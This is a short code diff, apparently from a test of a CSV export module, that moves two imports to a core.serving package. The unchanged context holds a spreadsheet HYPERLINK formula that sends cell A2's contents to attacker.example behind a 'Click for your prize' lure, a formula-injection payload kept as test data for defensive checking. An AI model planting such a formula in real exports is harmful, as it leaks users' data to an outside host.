@@ -7,8 +7,8 @@ import io
 
 import pandas as pd
 
-from core.csv_export import to_csv_bytes
-from core.predict_service import score
+from core.serving.csv_export import to_csv_bytes
+from core.serving.predict_service import score
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2, "Click for your prize")'
 
